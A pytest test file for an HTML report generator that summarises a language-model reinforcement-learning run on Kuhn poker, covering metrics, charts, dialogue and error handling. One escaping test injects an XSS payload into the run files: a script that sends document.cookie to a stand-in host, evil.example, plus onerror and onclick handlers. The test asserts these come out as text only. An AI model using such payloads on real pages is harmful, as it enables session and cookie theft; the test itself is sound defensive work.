"""The report of a run: its numbers, its charts, and nothing that a model wrote taken as anything but text."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from turnwise.algorithms.files import RunFolderError
from turnwise.algorithms.reporting.report import write_report
from turnwise.algorithms.reporting.runlog import RunLog
from turnwise.records import Episode, Message, Turn

EVIL = "<script>fetch('https://evil.example/' + document.cookie)</script><img src=x onerror=alert(1)>\ud800 [bet]"


def game(reply: str = "King. [bet]", **changes: Any) -> Episode:
    first = Turn(
        seat="player_0", observation=(Message("user", f"Your card: K. {reply}"),), text=reply, action="bet", reward=2.0
    )
    second = Turn(seat="player_1", observation=(Message("user", "bet"),), text="hm", status="unparsable", reward=-2.0)
    fields: dict[str, Any] = {
        "id": "0",
        "env_id": "KuhnPoker-LLM",
        "seats": {"player_0": "spiral@3", "player_1": "random"},
        "turns": (first, second),
        "returns": {"player_0": 2.0, "player_1": -2.0},
        "seed": 7,
    }
    return Episode(**(fields | changes))


@pytest.fixture
def run_dir(tmp_path: Path) -> Path:
    """A run of three steps with everything that a run may hold."""
    log = RunLog(tmp_path, tensorboard=False)
    for step in (1, 2, 3):
        log.write(
            {
                "step": step,
                "games": 256 * step,
                "entropy": 0.5,
                "magnet_kl": 0.01,
                "return/player_0": -0.05,
                "return/player_1": 0.05,
                "invalid_rate": 0.01,
                "reply_tokens": 5.0,
                "eval": {"nash_conv": 0.9 / step, "nash_conv_last": 1.0 / step},
                "time": {"step": 0.4, "rollout": 0.2, "credit": 0.01, "pack": 0.02, "update": 0.1, "model": 0.25},
            }
        )
    log.close()
    summary = {
        "nash_conv": 0.3,
        "nash_conv_start": 0.917,
        "illegal_rate": 0.0012,
        "seconds": 143.2,
        "games": 768,
        "turns": 1800,
        "time_outside_model": 0.172,
        "us_outside_model_per_turn": 71.3,
    }
    state = {
        "key": "Kpb",
        "seat": "player_0",
        "observation": "You hold the king.",
        "actions": {"fold": 0.0123, "call": 0.9877},
        "illegal_mass": 0.0042,
        "equilibrium": {"fold": [0.0, 0.0], "call": [1.0, 1.0]},
    }
    evaluation = {"nash_conv": 0.3, "references": {"uniform": 0.9167, "equilibrium": 0.0}, "policy": [state]}
    total = {"games": 1200, "wins": 600, "draws": 300, "losses": 300, "win_rate": 0.5, "win_interval": [0.472, 0.528]}
    total |= {"not_lost_rate": 0.75, "not_lost_interval": [0.7251, 0.774], "mean_return": 0.25}
    evaluation["win_rates"] = [{"opponent": "random", "total": total}]
    (tmp_path / "summary.json").write_text(json.dumps(summary))
    (tmp_path / "evaluation.json").write_text(json.dumps(evaluation))
    (tmp_path / "games.jsonl").write_text(game().to_json() + "\n")
    (tmp_path / "config.yaml").write_text("env: kuhn_poker\nseed: 0\n")
    return tmp_path


class Page(HTMLParser):
    """The tags, the attributes and the text of a page."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.words: list[str] = []
        self.feed(source)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    @property
    def text(self) -> str:
        return re.sub(r"\s+", " ", " ".join(self.words))


def page_of(run_dir: Path) -> tuple[str, Page]:
    path = write_report(run_dir)
    assert path == run_dir / "report.html"
    source = path.read_text(encoding="utf-8")
    return source, Page(source)


def test_the_page_shows_the_run(run_dir: Path) -> None:
    _, page = page_of(run_dir)
    headline = (
        "NashConv 0.300",
        "start 0.917, best 0.300",
        "0.12%",
        "768",
        "1,800",
        "2 min 23 s",
        "17.2%",
        "71 µs per turn",
    )
    policy = ("Kpb", "You hold the king.", "fold 0.012 0.00", "call 0.988 1.00", "0.42%")
    dialogue = (
        "KuhnPoker-LLM, seed 7",
        "spiral@3",
        "King. [bet]",
        "plays bet",
        "unparsable",
        "reward -2",
        "player_0 +2",
    )
    charts = ("Return per seat", "Entropy and KL", "Reply length", "Time per step", "uniform 0.917", "equilibrium 0")
    matches = ("random 1,200 600 300 300 50.0% (47.2 to 52.8) 75.0% (72.5 to 77.4) +0.250",)
    missing = [
        words
        for words in (*matches, *headline, *policy, *dialogue, *charts, "env: kuhn_poker")
        if words not in page.text
    ]
    assert missing == []


def test_the_page_needs_nothing_else(run_dir: Path) -> None:
    source, page = page_of(run_dir)
    assert "http://" not in source
    assert "https://" not in source
    assert page.tags.isdisjoint({"script", "link", "img", "iframe", "object", "embed", "base", "form"})
    links = [value for name, value in page.attributes if name in ("src", "href", "xlink:href", "action")]
    assert [value for value in links if not value.startswith("#")] == []
    assert "url(" not in re.sub(r"url\(#\w+\)", "", source)
    assert any("default-src 'none'" in value for name, value in page.attributes if name == "content")


def test_every_reference_in_a_drawing_is_to_one_element(run_dir: Path) -> None:
    source, page = page_of(run_dir)
    ids = [value for name, value in page.attributes if name == "id"]
    wanted = set(re.findall(r'(?:url\(|href=")#(\w+)', source))
    assert wanted
    assert sorted(wanted - set(ids)) == []
    assert len(ids) == len(set(ids))


def test_what_a_model_wrote_is_text(run_dir: Path) -> None:
    (run_dir / "games.jsonl").write_text(json.dumps(json.loads(game(EVIL).to_json())) + "\n")
    (run_dir / "config.yaml").write_text("model: </pre><script>alert(2)</script>\n")
    evaluation = json.loads((run_dir / "evaluation.json").read_text())
    evaluation["policy"][0] |= {"key": "<script>3</script>", "observation": EVIL, "actions": {"<b onclick=x>": 1.0}}
    evaluation["references"] = {"</svg><script>4</script>": 0.5}
    (run_dir / "evaluation.json").write_text(json.dumps(evaluation))
    (run_dir / "summary.json").write_text(json.dumps({"model": "<script>5</script>"}))
    source, page = page_of(run_dir)
    assert "<script" not in source
    assert page.tags.isdisjoint({"script", "img"})
    assert not [name for name, _ in page.attributes if name.startswith("on")]
    assert "<script>fetch('https://evil.example/' + document.cookie)</script>" in page.text
    assert "</svg><script>4</script> 0.5" in page.text


def test_what_is_missing_is_said(tmp_path: Path) -> None:
    _, page = page_of(tmp_path)
    sentences = (
        "no evaluations yet",
        "no steps yet",
        "no evaluation.json",
        "no games.jsonl",
        "no summary.json",
        "no config.yaml",
    )
    assert [words for words in sentences if words not in page.text] == []
    assert "svg" not in page.tags


def test_a_run_that_goes_on_shows_its_metrics(run_dir: Path) -> None:
    for name in ("summary.json", "evaluation.json", "games.jsonl"):
        (run_dir / name).unlink()
    _, page = page_of(run_dir)
    assert "NashConv 0.300" in page.text
    assert "Games 768" in page.text
    assert "Time so far 1.2 s" in page.text


def test_the_same_folder_gives_the_same_page(run_dir: Path) -> None:
    assert page_of(run_dir)[0] == page_of(run_dir)[0]


def test_a_torn_last_game_is_left_out_and_a_broken_file_named(run_dir: Path) -> None:
    line = game().to_json()
    (run_dir / "games.jsonl").write_text(line + "\n" + line[:50])
    assert page_of(run_dir)[1].text.count("KuhnPoker-LLM, seed 7") == 1
    (run_dir / "games.jsonl").write_text("{}\n")
    with pytest.raises(RunFolderError, match=r"games\.jsonl holds a line that is no episode"):
        write_report(run_dir)
    (run_dir / "games.jsonl").unlink()
    (run_dir / "evaluation.json").write_text("{")
    with pytest.raises(RunFolderError, match=r"evaluation\.json is not JSON"):
        write_report(run_dir)
    with pytest.raises(RunFolderError, match="no such directory"):
        write_report(run_dir / "missing")


def test_only_so_many_games_and_states_are_shown(run_dir: Path) -> None:
    (run_dir / "games.jsonl").write_text("".join(game(seed=100 + i).to_json() + "\n" for i in range(15)))
    evaluation = {"policy": [{"key": f"state{i:03d}", "actions": {"a": 1.0}} for i in range(203)]}
    (run_dir / "evaluation.json").write_text(json.dumps(evaluation))
    _, page = page_of(run_dir)
    assert "3 more games are in games.jsonl" in page.text
    assert "3 more information states are in evaluation.json" in page.text
    assert "state199" in page.text
    assert "state200" not in page.text
